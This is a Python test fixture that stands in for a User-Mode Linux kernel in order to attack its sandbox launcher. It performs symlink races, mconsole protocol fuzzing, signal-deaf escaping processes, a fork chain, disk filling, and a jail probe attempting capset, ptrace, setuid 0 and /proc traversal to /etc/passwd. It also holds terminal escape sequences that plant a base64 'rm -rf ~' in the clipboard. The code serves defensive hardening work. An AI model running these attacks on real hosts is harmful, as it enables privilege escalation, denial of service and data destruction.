#!/usr/bin/python3 -I
"""A hostile stand-in for UML's ``linux`` binary (the "kernel" of a UML spec).

The launcher execs it exactly as it would exec UML: as the guest's own uid,
with the console on ``con0=fd:N,fd:N`` and ``uml_dir=``/``umid=`` naming its
private directory.  It speaks enough of the mconsole protocol to be stopped
(``cad``/``halt`` make it exit), prints one ``HOSTILE {json}`` line and
``SVIRT-READY`` on its console, and then attacks the launcher, as chosen by
words on its kernel command line (the spec's ``cmdline``)::

    attack=none|symlinks|garbage|escape|jail|fill|leftovers|closein|trickle|flood|grow|tree|errtext|fakepanic
                                          what to do (default none; trickle:
                                          mconsole "more" fragments, one every
                                          variant ms, and deaf to SIGTERM;
                                          errtext: every mconsole command refused
                                          with terminal orders as the reason, the
                                          same printed on its console; fakepanic:
                                          the kernel's panic line printed, then it
                                          obeys cad like a healthy guest)
    variant=N                             which flavour of the attack
    depth=N                               attack=tree: how many directories
    targets=FILE                          JSON: {"files": [...], "dirs": [...]}
                                          (where the symlinks point: canaries)
    crash=MS                              die by itself after MS milliseconds
    crashsig=N                            ... with this signal (default SIGKILL)
    poweroff=MS                           power off by itself (exit 0) after MS ms
    token= hostpid= other= victim= canary= canary2= sock= sock2= shmkey= abstract= tcp=
                                          attack=jail: what to try from inside the
                                          jail (reported as one ``JAIL {json}`` line)
    fillmax=N fillname=NAME               attack=fill: write NAME in its home (variant
                                          0: up to N MiB, 1 MiB at a time; variant 1:
                                          up to N empty files NAME.i; variant 2: a tree
                                          N directories deep) until an error;
                                          reported as one ``FILL {json}`` line
    attack=flood                          after SVIRT-READY, print on the console
                                          without end (64 KiB lines of one letter)
    growmax=N                             attack=grow: extend its own disk (ubd0=) past
                                          its size: a byte N MiB out, ftruncate and
                                          fallocate there, writes across its
                                          RLIMIT_FSIZE, a raise of that limit (variant
                                          1: with SIGXFSZ restored to its default
                                          first); one ``GROW {json}`` line

It runs under the system python (``-I``: nothing from the environment or
root's virtualenv), only with the stdlib, because it runs as a uid that owns
nothing but its own directory.
"""

from __future__ import annotations

import contextlib
import errno
import json
import os
import random
import resource
import signal
import socket
import stat
import struct
import sys
import threading
import time

MAGIC = 0xCAFEBABE
REQUEST = struct.Struct("=III512s")
REPLY = struct.Struct("=III512s")
SHARED_DIRS = ("/tmp", "/dev/shm", "/var/tmp")  # only predicted names are planted here
#: attack=errtext: the reason of every refused mconsole command: OSC 52 (set the
#: clipboard), a cursor-position query, a title, a bidi override
ERRTEXT = b"no \x1b]52;c;cm0gLXJmIH4K\x07\x1b[6n\x1b]0;owned\x07\xe2\x80\xae\x9b"


def parse(argv: list[str]) -> dict[str, str]:
    opts: dict[str, str] = {}
    for word in argv[1:]:
        key, sep, value = word.partition("=")
        opts.setdefault(key, value if sep else "")
    return opts


def console_fd(opts: dict[str, str]) -> int:
    """The console's output fd: ``con0=fd:IN,fd:OUT`` (the same fd in a
    launch, a read-only FIFO and a write-only one in a detached guest)."""
    spec = opts.get("con0", "fd:1")
    fds = [int(part[3:]) for part in spec.split(",") if part.startswith("fd:")]
    return fds[-1] if fds else 1


def reply(sock: socket.socket, addr: str, err: int, more: int, text: bytes) -> None:
    with contextlib.suppress(OSError):
        sock.sendto(REPLY.pack(err, more, len(text), text), addr)


# ---------------------------------------------------------------- mconsole
def serve(sock: socket.socket, attack: str, variant: int, home: str) -> None:
    rnd = random.Random(os.getpid())  # noqa: S311 - fuzzing, not crypto
    while True:
        try:
            data, addr = sock.recvfrom(4096)
        except OSError:
            return
        if len(data) < 12:
            continue
        _magic, _version, length, payload = REQUEST.unpack(data.ljust(REQUEST.size, b"\0")[
            :REQUEST.size])
        command = payload[: min(length, 512)].decode(errors="replace").strip()
        if attack == "garbage":
            garbage(sock, addr, variant, rnd, home)
            continue
        if attack == "trickle":  # one "more" fragment at a time, each just in time
            threading.Thread(target=trickle, args=(sock, addr, variant), daemon=True).start()
            continue
        if attack == "errtext":  # refuse every command with terminal orders as its reason
            reply(sock, addr, 1, 0, ERRTEXT)
            continue
        reply(sock, addr, 0, 0, b"OK")
        if command in ("cad", "halt"):
            os._exit(0)


def garbage(sock: socket.socket, addr: str, variant: int, rnd: random.Random,
            home: str) -> None:
    """Answer an mconsole request with something no honest UML would send."""
    kind = variant % 12
    if kind == 0:  # random bytes, random length
        send_raw(sock, addr, rnd.randbytes(rnd.randrange(0, 1100)))
    elif kind == 1:  # runts
        for n in range(0, 12):
            send_raw(sock, addr, rnd.randbytes(n))
    elif kind == 2:  # length field far beyond the datagram
        send_raw(sock, addr, struct.pack("=III", 0, 0, 0xFFFFFFFF) + b"A" * 512)
    elif kind == 3:  # an error with undecodable text and a length > 512
        send_raw(sock, addr, struct.pack("=III", 0xFFFFFFFF, 0, 4096) + b"\xff\xfe" * 256)
    elif kind == 4:  # a request-shaped "reply": wrong magic where err belongs
        send_raw(sock, addr, REQUEST.pack(MAGIC, 2, 4, b"halt"))
    elif kind == 5:  # endless "more": a flood that never says the reply is over
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            try:
                sock.sendto(REPLY.pack(0, 1, 512, b"M" * 512), addr)
            except BlockingIOError:
                time.sleep(0.001)
            except OSError:
                return  # the client socket is gone: it stopped listening
    elif kind == 6:  # replies from another socket of ours, the real one silent
        other = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        path = os.path.join(home, f"other.{os.getpid()}.{rnd.randrange(1 << 30)}")
        with contextlib.suppress(OSError):
            other.bind(path)
        for err, more in ((0, 0), (1, 0), (0, 1)):
            with contextlib.suppress(OSError):
                other.sendto(REPLY.pack(err, more, 2, b"OK"), addr)
        other.close()
        with contextlib.suppress(OSError):
            os.unlink(path)
    elif kind == 7:  # oversized datagram
        send_raw(sock, addr, struct.pack("=III", 0, 0, 512) + rnd.randbytes(60000))
    elif kind == 8:  # a burst: more=1 then garbage then more=0 with a huge length
        send_raw(sock, addr, REPLY.pack(0, 1, 512, b"x" * 512))
        send_raw(sock, addr, rnd.randbytes(40))
        send_raw(sock, addr, struct.pack("=III", 0, 0, 0x7FFFFFFF))
    elif kind == 9:  # more flags that are neither 0 nor 1, lengths that are negative as ints
        send_raw(sock, addr, struct.pack("=III", 0, 0xFFFFFFFF, 0x80000000) + b"\0" * 512)
        send_raw(sock, addr, struct.pack("=III", 0, 0, 0xFFFFFF00) + b"\0" * 512)
    elif kind == 10:  # silence: never answer (the launcher must time out)
        return
    else:  # a valid OK, but no intention of stopping (and deaf to SIGTERM)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        reply(sock, addr, 0, 0, b"OK")


def trickle(sock: socket.socket, addr: str, every_ms: int) -> None:
    """Answer with ``more`` fragments, one every ``every_ms`` (default 200 ms),
    never the last one, and ignore SIGTERM: only one deadline per exchange
    keeps the ladder moving."""
    for _ in range(100000):
        try:
            sock.sendto(REPLY.pack(0, 1, 512, b"T" * 512), addr)
        except OSError:
            return  # the launcher's socket is gone: it stopped listening
        time.sleep((every_ms or 200) / 1000)


def send_raw(sock: socket.socket, addr: str, data: bytes) -> None:
    with contextlib.suppress(OSError):
        sock.sendto(data, addr)


# ---------------------------------------------------------------- symlinks
def writable_dirs(home: str, umid_dir: str) -> list[str]:
    """Every directory near the registry this uid may write (not shared ones)."""
    found: list[str] = []
    seen: set[str] = set()

    def consider(path: str) -> None:
        if path in seen or path in SHARED_DIRS:
            return
        seen.add(path)
        try:
            st = os.lstat(path)
        except OSError:
            return
        # sticky directories (/run/lock...) are shared: leave them alone
        if stat.S_ISDIR(st.st_mode) and not st.st_mode & stat.S_ISVTX and os.access(
                path, os.W_OK | os.X_OK):
            found.append(path)

    for d in (home, umid_dir, os.getcwd()):
        consider(d)
    # the registry's tree: a few levels above the home directory, two below each
    top = home
    for _ in range(3):
        top = os.path.dirname(top) or "/"
    for base, dirs, _files in os.walk(top):
        if base.count("/") - top.count("/") > 4:
            dirs[:] = []
            continue
        consider(base)
    return found


def symlink_attack(opts: dict[str, str], home: str, umid_dir: str, variant: int,
                   stop: threading.Event) -> None:
    """Rename symlinks to canaries over every name root might use, forever."""
    targets = load_targets(opts)
    files = targets.get("files") or ["/nonexistent"]
    dirs = targets.get("dirs") or ["/nonexistent"]
    rnd = random.Random(os.getpid() ^ threading.get_ident())  # noqa: S311
    launcher = os.getppid()
    predicted = [f"svirt-mc.{launcher + d}" for d in (0, 1, -1)] + [
        f"mc.{launcher}", f"svirt-mc.{launcher}.tmp", "pid", "notify", "mconsole.sock"]
    spare_mconsole = variant % 3 != 2  # variant 2: replace our own socket too
    swap_dirs = variant % 3 != 0  # variants 1, 2: swap the whole umid directory
    tmp = f".t{os.getpid()}.{threading.get_ident()}"
    n = 0
    writable = writable_dirs(home, umid_dir)
    while not stop.is_set():
        n += 1
        if n % 64 == 0:
            writable = writable_dirs(home, umid_dir)
        for d in writable:
            try:
                names = os.listdir(d)
            except OSError:
                names = []
            for name in predicted + names:
                if name.startswith(".t") or (name == "mconsole" and spare_mconsole):
                    continue
                if os.path.join(d, name) == umid_dir:
                    continue
                plant(d, name, rnd.choice(files), tmp)
        for shared in SHARED_DIRS:
            plant(shared, f"svirt-mc.{launcher}", rnd.choice(files), tmp)
        if swap_dirs and n % 4 == 0:
            swap_umid(umid_dir, rnd.choice(dirs), tmp)


def plant(directory: str, name: str, target: str, tmp: str) -> None:
    link = os.path.join(directory, tmp)
    try:
        with contextlib.suppress(FileNotFoundError):
            os.unlink(link)
        os.symlink(target, link)
        os.rename(link, os.path.join(directory, name))
    except OSError:
        with contextlib.suppress(OSError):
            os.unlink(link)


def swap_umid(umid_dir: str, target: str, tmp: str) -> None:
    """Put a symlink to a foreign directory where the umid directory was,
    briefly, then put the real one back (so the control channel still works
    part of the time and root keeps using it)."""
    parent = os.path.dirname(umid_dir)
    aside = umid_dir + ".real"
    link = os.path.join(parent, tmp)
    try:
        os.rename(umid_dir, aside)
    except OSError:
        return
    try:
        os.symlink(target, link)
        os.rename(link, umid_dir)
        time.sleep(0.0005)
    except OSError:
        pass
    finally:
        if os.path.islink(umid_dir):
            with contextlib.suppress(OSError):
                os.unlink(umid_dir)
        with contextlib.suppress(OSError):
            os.rename(aside, umid_dir)
        with contextlib.suppress(OSError):
            os.unlink(link)


def load_targets(opts: dict[str, str]) -> dict[str, list[str]]:
    path = opts.get("targets")
    if not path:
        return {}
    try:
        with open(path, encoding="utf-8") as f:
            data: dict[str, list[str]] = json.load(f)
            return data
    except (OSError, ValueError):
        return {}


# ------------------------------------------------------------------ escape
def escape(variant: int) -> None:
    """Leave processes behind that try to outlive the guest (UML forks host
    processes too): a new process group, a new session, a double fork."""
    pid = os.fork()
    if pid:
        return
    try:
        kind = variant % 3
        if kind == 0:
            os.setpgid(0, 0)
        else:
            os.setsid()
            if kind == 2 and os.fork():
                os._exit(0)
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(sig, signal.SIG_IGN)
        while True:
            time.sleep(0.05)
    finally:
        os._exit(0)


# --------------------------------------------------------------- leftovers
TAGGED_SLEEPER = "import time\nwhile True:\n    time.sleep(1)\n"
FORGED_STATE_DIR = "/var/tmp/svirt-elsewhere-registry"


def leftovers(variant: int) -> None:
    """Processes that try to survive release and hide from the orphan list.
    variant 0: three children in sessions of their own that carry another
    registry's SVIRT_STATE_DIR in their environment (what the old kill loop
    and orphan list trusted); variant 1: a fork chain (each process forks,
    then exits at once: a pid list is stale before it is read)."""
    if variant % 2 == 0:
        for _ in range(3):
            if os.fork() == 0:
                os.setsid()
                os.execve(sys.executable,  # noqa: S606 - argv list, never a shell
                          [sys.executable, "-I", "-c", TAGGED_SLEEPER],
                          {"SVIRT_STATE_DIR": FORGED_STATE_DIR, "PATH": "/usr/bin:/bin"})
        return
    if os.fork():
        return
    os.setsid()
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    while True:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            time.sleep(0.001)  # pids.max: try again


def close_console_input(opts: dict[str, str]) -> None:
    """Close every fd of the console's input (UML: con0=fd:IN,fd:OUT; QEMU
    shape: stdin), so no reader of the input FIFO is left in the guest."""
    spec = opts.get("con0", "")
    fds = {0}
    for part in spec.split(","):
        if part.startswith("fd:") and part[3:].isdigit():
            fds.add(int(part[3:]))
            break  # the first names the input
    for fd in fds:
        with contextlib.suppress(OSError):
            os.close(fd)


# -------------------------------------------------------------------- tree
def tree_attack(home: str, variant: int, depth: int) -> None:
    """Fill the home with a tree built to break a recursive remover: variant
    0 one chain ``depth`` directories deep (a file every 100 levels), 1
    ``depth`` directories side by side with a file in each, 2 both halves."""
    kind = variant % 3
    try:
        _tree(home, kind, depth)
    except OSError as err:  # the guest's own storage cap (ENOSPC): as deep as it got
        if err.errno not in (errno.ENOSPC, errno.EDQUOT):
            raise
    os.chdir(home)


def _tree(home: str, kind: int, depth: int) -> None:
    os.chdir(home)
    os.mkdir("tree")
    os.chdir("tree")
    if kind in (0, 2):
        for i in range(depth if kind == 0 else depth // 2):
            os.mkdir("d")
            os.chdir("d")
            if i % 100 == 0:
                os.close(os.open("f", os.O_WRONLY | os.O_CREAT, 0o600))
        os.chdir(os.path.join(home, "tree"))
    if kind in (1, 2):
        os.mkdir("w")
        for i in range(depth if kind == 1 else depth // 2):
            os.mkdir(f"w/{i}")
            os.close(os.open(f"w/{i}/f", os.O_WRONLY | os.O_CREAT, 0o600))
    os.chdir(home)


# -------------------------------------------------------------------- jail
HOST_DEVICES = ("kvm", "mem", "kmem", "port", "sda", "vda", "nvme0n1", "kmsg", "tty",
                "console", "net/tun", "loop0", "loop-control", "fuse", "mapper/control",
                "vhost-net", "hpet", "rtc0", "dri", "mqueue", "hugepages", "tty0", "ptmx")


def _tried(fn: object) -> str:
    """One attempt: "ok: <detail>", "absent" (ENOENT) or "denied: <errno name>"."""
    import errno as errnos
    try:
        detail = fn()  # type: ignore[operator]
    except FileNotFoundError:
        return "absent"
    except OSError as err:
        return "denied: " + errnos.errorcode.get(err.errno or 0, str(err.errno))
    return f"ok: {detail}"


def _libc_call(name: str, *args: object) -> int:
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    rc: int = getattr(libc, name)(*args)
    if rc == -1:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return rc


def _read(path: str) -> str:
    with open(path, "rb") as f:
        return repr(f.read(200))


def _connect(address: str | tuple[str, int], family: int = socket.AF_UNIX) -> str:
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(address)
        return f"connected to {address!r}"
    finally:
        s.close()


def _write_private(path: str) -> str:
    with open(path, "w", encoding="ascii") as f:
        f.write("jail probe\n")
    return path


def _own_disk(opts: dict[str, str], token: str) -> str:
    paths = [v for k, v in opts.items() if k.startswith("ubd0")]
    if not paths:
        raise FileNotFoundError(2, "no ubd0= on the command line")
    with open(paths[0], "r+b") as f:
        head = f.read(16)
        f.seek(512)
        f.write(token.encode())
        f.flush()
        os.fsync(f.fileno())
        f.seek(512)
        back = f.read(len(token)).decode()
    if back != token:
        raise OSError(5, "read back something else")
    return f"read {head[:4]!r}, wrote {token}"


def _capset() -> str:
    import ctypes

    class Header(ctypes.Structure):
        _fields_ = [("version", ctypes.c_uint32), ("pid", ctypes.c_int)]

    class Data(ctypes.Structure):
        _fields_ = [("effective", ctypes.c_uint32), ("permitted", ctypes.c_uint32),
                    ("inheritable", ctypes.c_uint32)]

    header = Header(0x20080522, 0)
    data = (Data * 2)(Data(0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF),
                      Data(0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF))
    _libc_call("capset", ctypes.byref(header), data)
    return "raised every capability"


def _ptrace_init() -> str:
    import ctypes
    _libc_call("ptrace", ctypes.c_long(16), ctypes.c_long(1), None, None)  # PTRACE_ATTACH
    with contextlib.suppress(OSError):
        os.waitpid(1, 0x40000000)  # __WALL
    with contextlib.suppress(OSError):
        _libc_call("ptrace", ctypes.c_long(17), ctypes.c_long(1), None, None)  # DETACH
    return "attached to pid 1"


def _in_child(fn: object) -> str:
    """Run ``fn`` in a single-threaded child (unshare(CLONE_NEWUSER) refuses a
    threaded process); its result comes back over a pipe."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            os.write(w, json.dumps(fn()).encode())  # type: ignore[operator]
        finally:
            os._exit(0)
    os.close(w)
    data = b""
    while chunk := os.read(r, 65536):
        data += chunk
    os.close(r)
    os.waitpid(pid, 0)
    result: str = json.loads(data or b'"the child died"')
    return result


def _userns() -> str:
    first = _tried(lambda: _libc_call("unshare", 0x10000000))  # CLONE_NEWUSER
    if not first.startswith("ok"):
        return first
    os.makedirs("/tmp/svirt-userns-mnt", exist_ok=True)
    then = _tried(lambda: _libc_call("unshare", 0x00020000))  # CLONE_NEWNS
    mounted = _tried(lambda: _libc_call("mount", b"none", b"/tmp/svirt-userns-mnt",
                                        b"tmpfs", 0, None))
    return f"ok: a user namespace; then unshare(CLONE_NEWNS) {then}; mount tmpfs {mounted}"


def _status() -> dict[str, str]:
    out = {}
    with open("/proc/self/status", encoding="ascii") as f:
        for line in f:
            key, _, value = line.partition(":")
            if key in ("CapEff", "CapPrm", "CapInh", "CapAmb", "CapBnd", "NoNewPrivs",
                       "Seccomp", "Uid", "Gid", "Groups"):
                out[key] = value.strip()
    return out


def _own_fds() -> dict[str, str]:
    """The fds it holds, and what each is.  Where its own /proc/self/fd is
    closed to it (the AppArmor profile of a guest), the fd numbers from
    fstat: EBADF is a closed one, any other answer an open one."""
    fds = {}
    try:
        names = os.listdir("/proc/self/fd")
    except OSError as err:
        for fd in range(resource.getrlimit(resource.RLIMIT_NOFILE)[0]):
            try:
                os.fstat(fd)
            except OSError as e:
                if e.errno == errno.EBADF:
                    continue
            fds[str(fd)] = f"? /proc/self/fd: {err.strerror}"
        return fds
    for name in names:
        with contextlib.suppress(OSError):
            fds[name] = os.readlink(f"/proc/self/fd/{name}")
    return fds


def _own_mounts() -> list[str]:
    """The mount points of its mount namespace (mountinfo, else mounts)."""
    for path, field in (("/proc/self/mountinfo", 4), ("/proc/self/mounts", 1)):
        with contextlib.suppress(OSError), open(path, encoding="utf-8") as f:
            return sorted(line.split()[field] for line in f)
    return []


def jail_probe(opts: dict[str, str], out: int) -> None:
    """attack=jail: try to see or touch the host from inside the jail and
    report each attempt on the console as one ``JAIL {json}`` line."""
    token = opts.get("token", str(os.getpid()))
    hostpid = int(opts.get("hostpid", "0") or 0)
    t: dict[str, str] = {}
    for key in ("canary", "canary2"):
        if opts.get(key):
            t[f"read {opts[key]}"] = _tried(lambda p=opts[key]: _read(p))
    for d in ("/", "/etc", "/home", "/root", "/var", "/var/tmp", "/run", "/sys", "/dev",
              os.path.dirname(next((v for k, v in opts.items() if k.startswith("ubd0")),
                                   "/nonexistent/x"))):
        t[f"list {d}"] = _tried(lambda d=d: sorted(os.listdir(d)))
    for key in ("sock", "sock2"):
        if opts.get(key):
            t[f"connect {opts[key]}"] = _tried(lambda p=opts[key]: _connect(p))
    if opts.get("abstract"):
        t["connect abstract"] = _tried(lambda: _connect("\0" + opts["abstract"]))
    if opts.get("tcp"):
        t["connect tcp"] = _tried(lambda: _connect(("127.0.0.1", int(opts["tcp"])),
                                                   socket.AF_INET))
    for d in ("/tmp", "/dev/shm"):
        t[f"write {d}"] = _tried(lambda d=d: _write_private(f"{d}/svirt-jail-{token}"))
    t["own disk"] = _tried(lambda: _own_disk(opts, token))
    pids = sorted(int(n) for n in os.listdir("/proc") if n.isdigit())
    t["list /proc"] = f"ok: {pids}"
    if hostpid:
        t["kill hostpid"] = _tried(lambda: os.kill(hostpid, 0))
        t["open /proc/hostpid/root"] = _tried(lambda: os.listdir(f"/proc/{hostpid}/root"))
    if opts.get("victim"):
        t["kill victim"] = _tried(lambda: os.kill(int(opts["victim"]), 0))
    if opts.get("other"):
        t["open other disk rw"] = _tried(lambda: os.close(os.open(opts["other"], os.O_RDWR)))
        t["open other disk ro"] = _tried(lambda: os.close(os.open(opts["other"], os.O_RDONLY)))
        t["open other disk via /proc/1/root"] = _tried(
            lambda: _read("/proc/1/root" + opts["other"]))
    for path in ("/proc/1/root/../etc/passwd", "/proc/1/root/../../etc/passwd",
                 "/proc/self/root/../etc/passwd", "/proc/1/cwd/../../../../etc/passwd",
                 "/../../etc/passwd"):
        t[f"read {path}"] = _tried(lambda p=path: _read(p))
    root = os.stat("/")

    def _up_is_root() -> bool:
        up = os.stat("/proc/1/root/..")  # PID 1 (tini) is not dumpable: refused
        return (up.st_dev, up.st_ino) == (root.st_dev, root.st_ino)

    t["/proc/1/root/.. is the jail root"] = _tried(_up_is_root)
    t["capset all"] = _tried(_capset)
    t["prctl raise ambient CAP_SYS_ADMIN"] = _tried(
        lambda: _libc_call("prctl", 47, 2, 21, 0, 0))
    t["prctl clear no_new_privs"] = _tried(lambda: _libc_call("prctl", 38, 0, 0, 0, 0))
    t["setuid 0"] = _tried(lambda: os.setuid(0))
    os.makedirs("/tmp/svirt-mnt", exist_ok=True)
    t["mount tmpfs"] = _tried(lambda: _libc_call("mount", b"none", b"/tmp/svirt-mnt",
                                                 b"tmpfs", 0, None))
    t["mknod /dev/null twin"] = _tried(lambda: os.mknod(
        "/tmp/null", stat.S_IFCHR | 0o666, os.makedev(1, 3)))
    t["unshare user namespace"] = _in_child(_userns)
    t["ptrace attach pid 1"] = _tried(_ptrace_init)
    if opts.get("shmkey"):
        t["sysv shmget host key"] = _tried(lambda: _libc_call("shmget", int(opts["shmkey"]),
                                                               0, 0))
    for dev in HOST_DEVICES:
        t[f"stat /dev/{dev}"] = _tried(lambda dev=dev: os.stat(f"/dev/{dev}").st_rdev)
    t["write /usr"] = _tried(lambda: _write_private("/usr/svirt-jail-probe"))
    t["write own kernel"] = _tried(lambda: os.close(os.open(sys.argv[0], os.O_WRONLY)))
    report = {"attempts": t, "pid": os.getpid(), "ppid": os.getppid(), "pids": pids,
              "status": _status(), "hostname": socket.gethostname(), "fds": _own_fds(),
              "mounts": _own_mounts()}
    os.write(out, b"JAIL " + json.dumps(report).encode() + b"\n")


# -------------------------------------------------------------------- fill
def _exec_own(home: str) -> str:
    """Run a program the guest wrote into its home (a copy of /bin/true)."""
    path = os.path.join(home, "own-program")
    try:
        with open("/bin/true", "rb") as src:
            data = src.read()
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o700)
        try:
            os.write(fd, data)
        finally:
            os.close(fd)
    except OSError as err:
        return f"not written: {errno.errorcode.get(err.errno or 0)}"
    return _tried(lambda: os.waitpid(_spawn(path), 0))


def _spawn(path: str) -> int:
    return os.posix_spawn(path, [path], {})


def fill(opts: dict[str, str], home: str, variant: int, out: int) -> None:
    """Write into the home until the file system says no (or ``fillmax``)."""
    most = int(opts.get("fillmax") or 256)
    name = os.path.join(home, opts.get("fillname") or "fill")
    executed = _exec_own(home)  # before the fill: it needs room for the program
    done, error = 0, None
    started = time.monotonic()
    try:
        if variant == 0:
            chunk = b"\xa5" * (1 << 20)
            fd = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
            try:
                while done < most << 20:
                    done += os.write(fd, chunk)
            finally:
                os.close(fd)
        elif variant == 1:
            while done < most:
                os.close(os.open(f"{name}.{done}", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
                done += 1
        else:  # a deep tree: NAME/d/d/d/... (relative steps: no PATH_MAX)
            os.mkdir(name, 0o700)
            fd = os.open(name, os.O_RDONLY | os.O_DIRECTORY)
            try:
                while done < most:
                    os.mkdir("d", 0o700, dir_fd=fd)
                    step = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
                    os.close(fd)
                    fd = step
                    done += 1
            finally:
                os.close(fd)
    except OSError as err:
        error = errno.errorcode.get(err.errno or 0, str(err.errno))
    st, vfs = os.stat(home), os.statvfs(home)
    report = {"variant": variant, "done": done, "error": error, "dev": st.st_dev,
              "exec": executed,
              "bytes_max": vfs.f_blocks * vfs.f_frsize, "inodes_max": vfs.f_files,
              "seconds": round(time.monotonic() - started, 3)}
    os.write(out, b"FILL " + json.dumps(report).encode() + b"\n")


def flood(out: int) -> None:
    """Print without end; a full console blocks us, which is the launcher's
    choice (it must drain)."""
    line = b"F" * 65535 + b"\n"
    while True:
        os.write(out, line)


def _errname(err: OSError) -> str:
    return errno.errorcode.get(err.errno or 0, str(err.errno))


def grow(opts: dict[str, str], variant: int, out: int) -> None:
    """Make its writable disk file larger than its virtual size, every way."""
    import ctypes

    paths = [v for k, v in opts.items() if k.startswith("ubd0")]
    far = int(opts.get("growmax") or 4096) << 20
    report: dict[str, object] = {"variant": variant}
    if variant == 1:
        signal.signal(signal.SIGXFSZ, signal.SIG_DFL)
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    report["limit"] = None if soft == resource.RLIM_INFINITY else soft
    try:
        resource.setrlimit(resource.RLIMIT_FSIZE,
                           (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        report["raise"] = "raised"
    except (OSError, ValueError) as err:
        report["raise"] = f"refused: {err}"
    fd = os.open(paths[0].split(",")[-1], os.O_RDWR)
    size0 = os.fstat(fd).st_size
    report["size0"] = size0

    def attempt(name: str, fn: object) -> None:
        try:
            got = fn()  # type: ignore[operator]
            report[name] = "done" if got is None else got
        except OSError as err:
            report[name] = _errname(err)
        os.write(out, f"GROW-STEP {name} {report[name]}\n".encode())

    attempt("far_write", lambda: os.pwrite(fd, b"G", size0 + far))
    attempt("truncate", lambda: os.ftruncate(fd, size0 + far))
    libc = ctypes.CDLL(None, use_errno=True)
    libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long]

    def falloc(mode: int) -> None:
        if libc.fallocate(fd, mode, size0 + far, 1 << 20) != 0:
            err = ctypes.get_errno()
            raise OSError(err, os.strerror(err))

    attempt("fallocate", lambda: falloc(0))
    attempt("fallocate_keep_size", lambda: falloc(0x01))  # FALLOC_FL_KEEP_SIZE
    attempt("zero_range_keep_size", lambda: falloc(0x11))
    edge = report["limit"] if isinstance(report["limit"], int) else size0 + (64 << 20)
    attempt("across_limit", lambda: os.pwrite(fd, b"A" * 65536, edge - 100))
    attempt("at_limit", lambda: os.pwrite(fd, b"B" * 65536, edge))
    st = os.fstat(fd)
    report["size"] = st.st_size
    report["allocated"] = st.st_blocks * 512
    os.close(fd)
    os.write(out, b"GROW " + json.dumps(report).encode() + b"\n")


# -------------------------------------------------------------------- main
def main() -> int:
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    opts = parse(sys.argv)
    attack = opts.get("attack", "none")
    variant = int(opts.get("variant", "0") or 0)
    home = opts.get("uml_dir", os.getcwd()).rstrip("/") or "/"
    umid = opts.get("umid", "standin")
    umid_dir = os.path.join(home, umid)
    os.makedirs(umid_dir, mode=0o755, exist_ok=True)
    mconsole = os.path.join(umid_dir, "mconsole")
    with contextlib.suppress(FileNotFoundError):
        os.unlink(mconsole)
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    sock.bind(mconsole)
    with open(os.path.join(umid_dir, "pid"), "w", encoding="ascii") as f:
        f.write(f"{os.getpid()}\n")
    out = console_fd(opts)
    info = {
        "pid": os.getpid(), "ppid": os.getppid(), "uid": os.getuid(), "gid": os.getgid(),
        "euid": os.geteuid(), "groups": os.getgroups(), "sid": os.getsid(0),
        "pgid": os.getpgid(0), "uml_dir": home, "umid": umid, "mconsole": mconsole,
        "cwd": os.getcwd(), "argv": sys.argv, "attack": attack, "variant": variant,
        "writable": writable_dirs(home, umid_dir),
    }
    if attack == "trickle":
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
    stop = threading.Event()
    threading.Thread(target=serve, args=(sock, attack, variant, umid_dir), daemon=True).start()
    if "crash" in opts:
        sig = int(opts.get("crashsig") or signal.SIGKILL)
        timer = threading.Timer(int(opts["crash"]) / 1000, os.kill, (os.getpid(), sig))
        timer.daemon = True
        timer.start()
    if "poweroff" in opts:
        timer = threading.Timer(int(opts["poweroff"]) / 1000, os._exit, (0,))
        timer.daemon = True
        timer.start()
    if attack == "escape":
        escape(variant)
    if attack == "symlinks":
        if variant % 2 and os.fork() == 0:
            # a helper in a process group of its own (killpg of the hypervisor
            # misses it) keeps attacking while the launcher releases
            os.setpgid(0, 0)
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            symlink_attack(opts, home, umid_dir, variant, threading.Event())
            os._exit(0)
        threading.Thread(target=symlink_attack, args=(opts, home, umid_dir, variant, stop),
                         daemon=True).start()
    if attack == "jail":
        jail_probe(opts, out)
    if attack == "fill":
        fill(opts, home, variant, out)
    if attack == "leftovers":
        leftovers(variant)
    if attack == "grow":
        grow(opts, variant, out)
    if attack == "tree":
        tree_attack(home, variant, int(opts.get("depth") or 100_000))
    os.write(out, b"HOSTILE " + json.dumps(info).encode() + b"\nSVIRT-READY\n")
    if attack == "closein":
        close_console_input(opts)
    if attack == "flood":
        flood(out)
    if attack == "errtext":  # the same orders on the console, then a marker
        os.write(out, b"ORDERS " + ERRTEXT + b" END-ORDERS\n")
    if attack == "fakepanic":  # any program in the guest may print this on its console
        os.write(out, b"Kernel panic - not syncing: printed by a user program\nFAKED\n")
    while True:
        time.sleep(3600)


if __name__ == "__main__":
    sys.exit(main())
